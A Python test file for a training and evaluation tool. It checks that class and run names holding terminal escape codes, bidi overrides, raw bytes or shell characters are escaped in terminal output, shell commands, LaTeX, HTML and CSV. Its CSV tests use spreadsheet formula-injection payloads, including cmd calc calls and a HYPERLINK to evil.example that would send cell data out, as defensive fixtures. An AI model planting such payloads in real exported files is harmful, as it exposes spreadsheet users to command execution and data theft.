"""Names and signs that a terminal, a shell, LaTeX or a disk would not take as they are."""

from __future__ import annotations

import csv
import fcntl
import io
import json
import os
import pty
import re
import shlex
import shutil
import struct
import subprocess
import sys
import termios
import time
from pathlib import Path

import pytest
import tiny
import torch
from conftest import ROOT, on_a_terminal, refusal, run_cli, run_python

import dataset.__main__
import net.__main__
import options
import report
import storage.space
import terminal
from bars import Bar
from criteria import amloss, timing
from evaluation import tables
from options.files import words_of
from page import document, overview
from runs import RunFolder, data_name, run_name
from storage import as_table
from terminal import as_shell, plain, printable, say
from training import start
from training.describing import describe
from training.progress import progress_bar
from utils import InputError

pytestmark = pytest.mark.usefixtures("maps_here")

TITLE = "esc\x1b]0;title\x07"
BYTES = "b\udcffd"
TURNED = "a\u202eb"
STRANGE = (
    TITLE,
    BYTES,
    TURNED,
    "tab\there",
    "new\nline",
    "\x9b31m",
    "é 東京\u3000x",
    "it's `x` \\",
)


def obeyed(text: str) -> list[str]:
    """What is in a text that a terminal would obey."""
    return [c for c in text if c != "\n" and (ord(c) < 32 or 127 <= ord(c) < 160 or c == "\u202e")]


# --- words ----------------------------------------------------------------------------------------


def test_what_a_terminal_obeys_is_escaped_and_letters_are_not() -> None:
    assert printable(TITLE) == "esc\\x1b]0;title\\x07" and printable(BYTES) == "b\\xffd"
    assert printable(TURNED) == "a\\u202eb" and printable("\x9b31m") == "\\x9b31m"
    for fine in ("é 東京\u3000x", "a\u00a0b", "می\u200cخواهم", "👩\u200d🚀"):
        assert printable(fine) == fine
    assert plain("a…b – c × d") == "a...b - c x d"


@pytest.mark.parametrize("locale", ["C", "C.UTF-8"])
@pytest.mark.parametrize("word", [*STRANGE, "", "folder:/a b/c", "-x", "$HOME"])
def test_a_shell_gets_the_word_that_was_meant(word: str, locale: str) -> None:
    said = as_shell(word)
    assert not obeyed(said)
    command, language = ["bash", "-c", f"printf '%s.' {said}"], {**os.environ, "LC_ALL": locale}
    done = subprocess.run(command, capture_output=True, check=True, env=language)
    assert done.stdout == os.fsencode(word) + b"."


def test_a_path_that_begins_with_a_dash_is_no_flag() -> None:
    assert as_shell(Path("-x y"), Path("a-b"), "-x") == "'./-x y' a-b -x"


def test_what_a_traceback_in_the_log_quotes_is_escaped() -> None:
    """The search page logs a mistake of its own, with whatever a stranger's request had in it."""
    code = (
        "import logging, sys, terminal\n"
        "terminal.hear(logging.WARNING)\n"
        "try:\n    raise ValueError(sys.argv[1])\n"
        "except ValueError:\n    logging.exception('a mistake')\n"
    )
    done = run_python("-c", code, TITLE)
    assert not obeyed(done.stderr) and "ValueError: esc\\x1b]0;title\\x07\n" in done.stderr


@pytest.mark.parametrize("word", STRANGE)
def test_names_are_escaped_in_tables_pages_and_latex(word: str, capsys) -> None:
    rows = [tables.Row(word, f"[{word}", {"R@1": 0.5}), tables.Row(word, "*", {"R@1": 0.25})]
    shown = tables.text(rows)
    assert not obeyed(shown) and len({len(line) for line in shown.splitlines()}) == 1
    made = tables.latex(rows, word, "t.tex")
    assert not obeyed(made) and "\\\\\n    [" not in made and r"{[}" in made and r"{*}" in made
    assert not obeyed(document.as_text(word)) and not obeyed(
        json.loads(document.as_json([word]))[0]
    )
    content = as_table(["class"], [[word]])
    assert not obeyed(content.decode(errors="surrogateescape"))
    if word == BYTES:
        assert b"b\xffd" in content  # a file is found again by its name
    say(word)
    assert not obeyed(capsys.readouterr().out)


@pytest.mark.parametrize(
    "name",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?"&A1)',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+WEBSERVICE(A1)",
        "='//evil.example/[a.xls]b'!c",
    ],
)
def test_a_name_in_a_table_calls_nothing_when_a_spreadsheet_opens_it(name: str) -> None:
    (heading,), (cell, number) = csv.reader(as_table([name], [[name, -0.5]]).decode().splitlines())
    assert heading == cell == f"\\x{ord(name[0]):02x}{name[1:]}" and number == "-0.5"


@pytest.mark.parametrize("name", ["-rf", "@home", "+1 (six)", "-0.5", "=)", "a=f(x)|b!", ""])
def test_a_name_in_a_table_that_calls_nothing_stays_as_it_is(name: str) -> None:
    assert [[name, "x"]] == [*csv.reader(as_table([name, "x"], []).decode().splitlines())]


@pytest.mark.parametrize("cell", ["a;{}", "b,;{}", 'q";{}', 'a;"{}', 'a;""{};c', ";;{}", "{};d"])
@pytest.mark.parametrize(
    "formula", ["=cmd|'/c calc'!A0", "@SUM(1)", '=HYPERLINK("http://evil.example/")']
)
def test_a_name_calls_nothing_where_a_spreadsheet_splits_at_semicolons(
    cell: str, formula: str
) -> None:
    """There as where it splits at commas; it looks for quotation marks where its cells begin."""
    name = cell.format(formula)
    for row in (["x", name], [name, "x"]):
        written = as_table(["a", "b"], [row]).decode()
        for delimiter in ",;":
            for found in csv.reader(written.splitlines(), delimiter=delimiter):
                assert not any(piece.lstrip('"').startswith(("=", "@")) for piece in found), written
    harmless = ["a;=1+2", "x;-y;z!", "(1);+b"]
    assert [harmless] == [*csv.reader(as_table(harmless, []).decode().splitlines())]


def test_latex_prints_every_sign_of_ascii() -> None:
    signs = "".join(map(chr, range(32, 127)))
    made = tables.escaped(signs)
    for sign, command in (("<", "less"), (">", "greater"), ("|", "bar"), ("\\", "backslash")):
        assert rf"\text{command}{{}}" in made, sign
    for sign in "&%$#_{}":
        assert f"\\{sign}" in made
    assert tables.escaped("`") == r"\`{}" and tables.escaped("~") == r"\textasciitilde{}"


# --- a run on classes with such names -------------------------------------------------------------


@pytest.fixture(scope="module")
def strange(images: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of images with such classes, in folders that have such names too."""
    root = tmp_path_factory.mktemp("data") / f"photos {TITLE}"
    shutil.copytree(images, root)
    for split in ("train", "eval"):
        for number, name in enumerate((TITLE, BYTES, TURNED, "_x^{~}%&")):
            (root / split / f"{split}{number}").rename(root / split / f"{name}-{split}")
    return root


@pytest.mark.parametrize("encoding", ["ascii", pytest.param("utf-8", marks=pytest.mark.slow)])
def test_no_door_says_a_name_raw(encoding: str, strange: Path, tmp_path: Path) -> None:
    shell, name = {"PYTHONIOENCODING": encoding}, "лог …"
    data = ["--dataset", f"folder:{strange}", *tiny.NETWORK]
    data.remove("--no-report")
    more = ["--epochs", "1", "--warm", "0", "--loss", "AMLoss", "--LOG_DIR", tmp_path]
    said = [run_cli("train.py", *data, *more, "--name", name, cwd=tmp_path, **shell)]
    run = tmp_path / name
    asked = ["--per-class", "c.csv", "--failures", 3, "--out", ".", "--latex", "t.tex"]
    query = next((strange / "eval").glob("esc*/*.png"))
    asked += ["--query", query]
    said.append(run_cli("evaluate.py", "--resume", run, *asked, cwd=tmp_path, **shell))
    assert [done.returncode for done in said] == [0, 0], said[-1].stderr
    for done in said:
        assert not obeyed(done.stdout + done.stderr) and "Traceback" not in done.stderr
    assert "no report page" not in said[0].stderr and (run / "report.html").is_file()
    folder = "лог …" if encoding == "utf-8" else r"\u043b\u043e\u0433 ..."
    assert f"run folder  {tmp_path}/{folder}" in said[0].stdout
    for name in (f"{run.name}/margins.csv", "c.csv", "failures.csv", "query.csv", "t.tex"):
        content = (tmp_path / name).read_bytes().decode(errors="surrogateescape")
        assert not obeyed(content.replace("\r", "")), name
        assert name == "t.tex" or "\\x1b]0;title\\x07" in content, name


def test_the_page_and_the_table_of_runs_say_no_name_raw(strange, tmp_path, capsys) -> None:
    made = tiny.run(strange, tmp_path / "logs", "run", "--epochs 1 --loss AMLoss --warm 0")
    run = made.rename(made.with_name(f"run {TITLE}"))
    capsys.readouterr()
    page = report.make([run]).read_text()
    assert not obeyed(page) and "\\\\x1b]0;title" in page
    words = [
        "--compare",
        str(run.parent),
        "--out",
        str(tmp_path / "runs.html"),
        "--csv",
        str(tmp_path / "c.csv"),
    ]
    overview.compare(options.parse_report([*words, "--latex", str(tmp_path / "t.tex")]))
    printed = capsys.readouterr().out
    made = [(tmp_path / name).read_text() for name in ("c.csv", "t.tex", "runs.html")]
    for text in (printed, *made):
        assert not obeyed(text) and "x1b" in text


# --- terminals without letters --------------------------------------------------------------------

POOR = {
    "ascii": {"PYTHONIOENCODING": "ascii"},
    "latin-1": {"PYTHONIOENCODING": "latin-1"},
    "C": {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"},
}
LIGHT = (["train.py"], ["evaluate.py"], ["report.py"])


@pytest.mark.parametrize("terminal", POOR)
def test_every_door_helps_and_complains_on_every_terminal(terminal: str) -> None:
    called = [(door, words) for door in LIGHT for words in (["--help"], ["--…\udcff"])]
    if (
        terminal == "ascii"
    ):  # it loads torch before it helps, and tests/test_own_images.py has the others
        called.append((["-m", "net"], ["--help"]))
    running = [
        subprocess.Popen(
            [sys.executable, *door, *words],
            cwd=ROOT,
            env={**os.environ, **POOR[terminal]},
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        for door, words in called
    ]
    for (door, words), process in zip(called, running, strict=True):
        out, errors = process.communicate(timeout=120)
        text = (out + errors).decode("latin-1" if terminal == "latin-1" else "ascii")
        assert process.returncode == (0 if words == ["--help"] else 2), (door, text)
        assert "Traceback" not in text and text.startswith(("usage", "error: unknown"))


# --- files of flags -------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le with a mark"])
def test_files_of_flags_may_come_from_any_editor(encoding: str, tmp_path: Path) -> None:
    lines = ["# it's a comment", "--lr 3e-4  # don't", r"--data-root C:\photos\ünder", ""]
    lines += [r"--dataset 'folder:D:\my photos\a#b'", '--remark "a \\"b\\" c"', r"--name x\ y"]
    text = "\r\n".join(lines)
    content = text.encode(encoding.split()[0])
    if "mark" in encoding:
        content = b"\xff\xfe" + content
    (tmp_path / "mine.txt").write_bytes(content)
    words = list(words_of([f"@{tmp_path / 'mine.txt'}", "--seed", "2"]))
    assert words == [
        *("--lr", "3e-4", "--data-root", r"C:\photos\ünder"),
        *("--dataset", r"folder:D:\my photos\a#b", "--remark", 'a "b" c', "--name", "x y"),
        *("--seed", "2"),
    ]


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"--epochs 3\n--remark it's\n", ["line 2", "quotation mark '", "no partner"]),
        (b'--name "C:\\photos\\"\n', ["line 1", 'quotation mark "']),
        (b"--name \xff\xfe\xfa\n", ["cannot be read", "not text in UTF-8"]),
        (b"--epochs 3\n@SELF\n", ["names itself"]),
    ],
)
def test_a_bad_file_of_flags_is_one_sentence(content, words, tmp_path, capsys) -> None:
    file = tmp_path / "mine.txt"
    file.write_bytes(content.replace(b"SELF", os.fsencode(file)))
    sentence = refusal(capsys, options.parse_train, [f"@{file}"])
    assert str(file) in sentence
    assert all(word in sentence for word in words), sentence


def test_what_is_no_file_is_no_file_of_flags(tmp_path, capsys) -> None:
    os.mkfifo(tmp_path / "pipe")
    for path in (tmp_path, tmp_path / "pipe", tmp_path / "none", tmp_path / ("x" * 300)):
        refusal(capsys, options.parse_train, [f"@{path}"])


# --- files on a disk ------------------------------------------------------------------------------


def test_files_are_called_after_the_folder_of_the_images_alone(images, tmp_path) -> None:
    long = tmp_path / ("очень-длинная-папка" * 6) / ("写真" * 40)
    long.parent.mkdir()
    shutil.copytree(images, long)
    args = tiny.parse(long, f"--epochs 1 --LOG_DIR {tmp_path / 'logs'} --remark {'ä' * 300}")
    import train

    train.main(args)
    (run,) = (tmp_path / "logs").iterdir()
    best = RunFolder(run).best_checkpoint()
    assert best is not None and best.name.startswith("写真写真")
    assert max(len(os.fsencode(path.name)) for path in [run, *run.iterdir()]) < 200


@pytest.mark.parametrize(
    ("given", "name"),
    [
        ("emoji", "emoji"),
        ("folder:/data/my photos", "my-photos"),
        ("csv:/data/list.v2.csv", "list.v2"),
        ("folder:/", "folder"),
        ("folder:~nobody-of-this-name/photos", "photos"),
        (f"folder:/data/{BYTES}", "b-d"),
    ],
)
def test_what_files_call_a_data_set(given: str, name: str) -> None:
    assert data_name(given) == name
    assert run_name(given, "resnet18", "AMLoss", "").startswith(f"{name}_resnet18_AMLoss_")


def test_a_run_of_an_older_version_keeps_the_name_of_its_best_checkpoint(images, tmp_path) -> None:
    run = tiny.run(images, tmp_path, "run", "--epochs 1")
    older = tiny.best_checkpoint(run).rename(run / "folder--of-an-older-version_best.pth")
    state = tiny.saved(run)
    state["clock"]["best"] = -1.0
    torch.save(state, run / "last.pth")
    tiny.resume(run, "--epochs 2")
    assert tiny.best_checkpoint(run) == older and tiny.saved(run, "best")["epoch"] >= 1


# --- what a step will cost ------------------------------------------------------------------------


def test_one_is_told_before_training_when_margins_are_slow(images, monkeypatch) -> None:
    training = tiny.prepare(images, "--loss AMLoss")
    assert "compares" not in describe(training)
    monkeypatch.setattr(amloss.ProxyCrowding, "seconds", lambda unit: 72.4)
    said = describe(training)
    assert "all 8 classes with each other, 28 pairs, at every step: about 72 s per step" in said


def test_the_cost_of_the_margins_is_measured() -> None:
    unit = torch.nn.functional.normalize(torch.randn(timing.FEW, 64))
    assert amloss.ProxyCrowding.seconds(unit[:-1]) == 0
    assert 0 < amloss.ProxyCrowding.seconds(unit) < 60


# --- what fits a terminal -------------------------------------------------------------------------


def does_not_fit(lines: list[str], columns: int) -> list[str]:
    """Lines that a terminal would break, except for one word, or one command to be pasted."""
    wide = [line for line in lines if terminal.columns(line) > columns]
    return [
        line
        for line in wide
        if len(line.split()) > 1 and " python " not in f" {line.strip()}" and "`" not in line
    ]


@pytest.fixture(scope="module")
def evaluated(images: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with the run `logs/a-run-with-a-rather-long-name`."""
    folder = tmp_path_factory.mktemp("evaluated")
    tiny.run(images, folder / "logs", "a-run-with-a-rather-long-name", "--epochs 1 --loss AMLoss")
    return folder


COMMANDS = {
    "evaluate": "ROOT/evaluate.py --resume RUN RUN/last.pth --bootstrap 100",
    "compare": "ROOT/report.py --compare logs",
    "train": f"ROOT/train.py --dataset folder:IMAGES {' '.join(tiny.NETWORK)} --dry-run",
    "check": "-m dataset check folder:IMAGES",
}


@pytest.mark.parametrize("columns", [pytest.param(80, marks=pytest.mark.slow), 40])
@pytest.mark.parametrize("name", COMMANDS)
def test_what_is_printed_fits_the_terminal(name: str, columns: int, evaluated, images) -> None:
    run = "logs/a-run-with-a-rather-long-name"
    words = COMMANDS[name].replace("RUN", run).replace("IMAGES", str(images))
    command = words.replace("ROOT", str(ROOT)).split()
    shown = on_a_terminal(columns, *command, cwd=evaluated)
    assert not does_not_fit(shown, columns)
    numbers = [word for line in shown for word in re.findall(r"[0-9]+\.[0-9]+|[0-9,]{3,}", line)]
    assert len(numbers) > 4 or name == "check"
    if name == "evaluate":  # none is broken in two: they are those that go to a file
        whole = run_python(*command, cwd=evaluated).stdout
        exact = r"[0-9]+\.[0-9]{3,}"
        assert sorted(re.findall(exact, whole)) == sorted(re.findall(exact, "\n".join(shown)))


@pytest.mark.parametrize("columns", [80, 40])
@pytest.mark.parametrize("door", ["train", "evaluate", "report", "dataset", "net"])
def test_help_fits_the_terminal(door: str, columns: int, monkeypatch, capsys) -> None:
    monkeypatch.setenv("COLUMNS", str(columns))
    monkeypatch.setattr(terminal, "width_of", lambda stream: columns)
    asked = {
        "train": lambda: options.parse_train(["--help"]),
        "evaluate": lambda: options.parse_evaluate(["--help"]),
        "report": lambda: options.parse_report(["--help"]),
        "dataset": lambda: dataset.__main__.main(["check", "--help"]),
        "net": lambda: net.__main__.main(["export", "--help"]),
    }
    with pytest.raises(SystemExit) as stop:
        asked[door]()
    shown = capsys.readouterr().out.split("\n")
    # argparse does not break its own usage line between a flag and its value.
    wide = [line for line in does_not_fit(shown, columns) if not line.lstrip().startswith("[")]
    assert stop.value.code == 0 and not wide and shown[0].startswith("usage: ")
    assert len(shown) > (200 if door == "train" else 10)
    if columns == 80:  # no flag is broken in two
        assert not [line for line in shown if re.search(r"--[a-z-]+-$", line)]


@pytest.mark.parametrize("command", ["train", "evaluate", "report"])
def test_help_ends_with_commands_that_can_be_pasted(command, capsys, monkeypatch) -> None:
    monkeypatch.chdir(ROOT)
    parse = getattr(options, f"parse_{command}")
    with pytest.raises(SystemExit):
        parse(["--help"])
    last = capsys.readouterr().out.rpartition("\nexamples:\n")[2].splitlines()
    assert len(last) >= 2
    for line in last:
        parse(shlex.split(line.removeprefix(f"  python {command}.py ")))


def test_help_fits_the_terminal_behind_a_pager() -> None:
    leader, follower = pty.openpty()
    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 62, 0, 0))
    environment = {name: value for name, value in os.environ.items() if name != "COLUMNS"}
    for more, columns in (({}, 62), ({"COLUMNS": "50"}, 50)):
        shown = subprocess.run(
            [sys.executable, str(ROOT / "report.py"), "--help"],
            env={**environment, **more}, stdout=subprocess.PIPE, stderr=follower, text=True,
        ).stdout.split("\n")  # fmt: skip
        assert not does_not_fit(shown, columns) and len(shown) > 10
        assert max(map(len, shown)) > columns - 12  # and the room is used
    os.close(leader)
    os.close(follower)


def test_what_a_continued_run_begins_with_fits_the_terminal(
    images: Path, tmp_path: Path, monkeypatch, capsys
) -> None:
    run = tiny.run(images, tmp_path, "run", "--epochs 2 --schedule cosine --max-steps 1")
    monkeypatch.setattr(terminal, "width_of", lambda stream: 40)
    capsys.readouterr()
    start.to_continue(options.parse_train(["--resume-run", str(run), "--epochs", "4"]))
    shown = capsys.readouterr().out
    words = " ".join(shown.split())
    assert "begun with --max-steps 1, continued to the end of the run" in words
    assert "--epochs 4 stretches the cosine" in words and not does_not_fit(shown.split("\n"), 40)


def test_typing_errors_fit_the_terminal(tmp_path: Path) -> None:
    shown = on_a_terminal(40, ROOT / "search.py", "qery", cwd=tmp_path, status=2)
    assert shown[0].startswith("error: ") and len(shown) > 2 and not does_not_fit(shown, 40)


def test_errors_and_warnings_fit_the_terminal(tmp_path: Path) -> None:
    images = tiny.write_images(tmp_path / "data")
    for file in sorted(images.glob("eval/*/*.png"))[:3]:
        file.write_bytes(b"no picture")
    words = [ROOT / "train.py", "--dataset", f"folder:{images}", *tiny.NETWORK]
    shown = on_a_terminal(60, *words, cwd=tmp_path, status=2)
    said = "\n".join(line for line in shown if line)
    assert "error: 3 of the 24 evaluation images" in said and not does_not_fit(shown, 60)
    assert f" python -m dataset check folder:{images} --json FILE`" in said  # in one piece


def test_lines_are_broken_at_blanks_alone_and_only_on_a_terminal(monkeypatch) -> None:
    text = "steps       3 per epoch of 16 images each, `python train.py --dataset x` 12345"
    assert terminal.fitted(text) == text
    monkeypatch.setattr(terminal, "width_of", lambda stream: 40)
    lines = terminal.fitted(text, " " * 12).split("\n")
    assert lines[0] == "steps       3 per epoch of 16 images" and lines[1] == " " * 12 + "each,"
    assert lines[2] == " " * 12 + "`python train.py --dataset x`" and "12345" in lines[3]
    assert terminal.fitted("x" * 90) == "x" * 90 and terminal.fitted("a\nb\n") == "a\nb\n"
    assert terminal.fitted("写真" * 12 + " " + "写真" * 12).count("\n") == 1


def test_a_paragraph_has_80_columns_and_its_words_and_commands_stay_what_they_are() -> None:
    command = "`python -m dataset check 'folder:/photos of mine' --json FILE`"
    text = f"not under data: cub, cars; {command} tells more, {'x' * 79} too {'y' * 200}"
    lines = terminal.wrapped(text, "  note  ", " " * 8).split("\n")
    assert max(map(len, lines)) <= 80 and any(command in line for line in lines)
    assert "".join(line.replace(" ", "") for line in lines) == f"note{text.replace(' ', '')}"
    for length in range(70, 90):  # a word that is cut gets no blank in it
        (last,) = terminal.wrapped("x" * length, "", "  ").split("\n")[-1:]
        assert " " not in last.strip()


def test_long_titles_stand_above_their_numbers() -> None:
    heads, cells = ["R@1", "R@2"], ["0.1234", "0.5678"]
    shown = tables.aligned(heads, [("a-very-long-name-of-a-run", cells)], room=30).split("\n")
    assert shown == ["    R@1    R@2", "a-very-long-name-of-a-run", " 0.1234 0.5678"]
    beside = tables.aligned(["R@1", "data"], [("demo", ["0.1234", "folder:" + "x" * 24])], room=34)
    assert beside.split("\n")[-2:] == ["demo", f" folder:{'x' * 24}"]


# --- waits ----------------------------------------------------------------------------------------

WAITING = """
import sys, time, terminal
terminal.PATIENCE = 0.2
with terminal.notice_if_slow("counting"):
    time.sleep(float(sys.argv[1]))
print("done")
"""


def test_a_wait_is_named_on_a_terminal_where_it_is_long(tmp_path: Path) -> None:
    shown = [on_a_terminal(80, "-c", WAITING, wait, cwd=tmp_path) for wait in (1, 0)]
    assert shown == [["counting ...", "done", ""], ["done", ""]]
    piped = run_python("-c", WAITING, "1")
    assert (piped.stdout, piped.stderr) == ("done\n", "")


def test_a_wait_that_is_named_takes_the_line_of_a_bar(tmp_path: Path) -> None:
    beside = WAITING.replace("import sys", "import bars, sys")
    beside = beside.replace("    time", "    bar = bars.Bar('images', 9)\n    time")
    assert "counting ..." in on_a_terminal(80, "-c", beside, 1, cwd=tmp_path)


# --- the disk -------------------------------------------------------------------------------------


def test_what_cannot_fit_the_disk_is_refused_before_it_is_begun(
    images: Path, tmp_path: Path, monkeypatch
) -> None:
    said = describe(tiny.prepare(images))
    assert re.search(r"^disk +the run keeps about [\d.]+ [kM]B, .*free$", said, re.MULTILINE), said
    monkeypatch.setattr(storage.space, "free_space", lambda folder: 20_000)
    with pytest.raises(InputError, match=r"what the run keeps takes about .* --LOG_DIR"):
        tiny.run(images, tmp_path / "logs", "run")
    cache = f"--decode cache --cache-dir {tmp_path / 'cache'}"
    with pytest.raises(InputError, match=r"the cache of 48 images takes .*free.*--cache-dir"):
        tiny.prepare(images, cache)
    assert not (tmp_path / "logs").exists() and not list((tmp_path / "cache").rglob("*.pixels"))


@pytest.mark.parametrize("flags", ["", "--optimizer sgd --keep 2", "--ema 0.9 --loss AMLoss"])
def test_what_a_run_keeps_is_about_what_was_said(flags: str, images, tmp_path, monkeypatch) -> None:
    wide = f"--epochs 4 --width 0.5 {flags}"
    said = tiny.prepare(images, wide)
    expected = said.bytes_on_disk(said.options["keep"])
    run = tiny.run(images, tmp_path, "run", wide)
    kept = sum(file.stat().st_size for file in run.glob("*.pth"))
    assert 0.8 * expected < kept < 1.3 * expected, (expected, kept)


@pytest.mark.parametrize("steps", ["--max-steps 2", "--steps 2", "--max-steps 1000"])
def test_the_bar_of_an_epoch_ends_where_the_run_does(steps: str, images: Path) -> None:
    """Its time left was that of the whole epoch: hours, for a try of two steps."""
    training = tiny.prepare(images, steps)
    whole = len(training.loader) * 12
    assert progress_bar(training).total == min(24, whole) if "1000" not in steps else whole


def test_a_terminal_that_is_slow_to_take_a_bar_does_not_hold_up_the_work():
    class Slow(io.StringIO):
        waited = 0.0

        def isatty(self) -> bool:
            return True

        def write(self, text: str) -> int:
            time.sleep(0.01)
            self.waited += 0.01
            return super().write(text)

    slow, begun = Slow(), time.perf_counter()
    with Bar("a \x1b[31mtitle", 10**6, file=slow) as bar:
        while time.perf_counter() - begun < 1:
            bar.update()
            time.sleep(0.002)
        waited = slow.waited
    assert 0 < waited < 0.25
    assert "a \\x1b[31mtitle" in slow.getvalue()
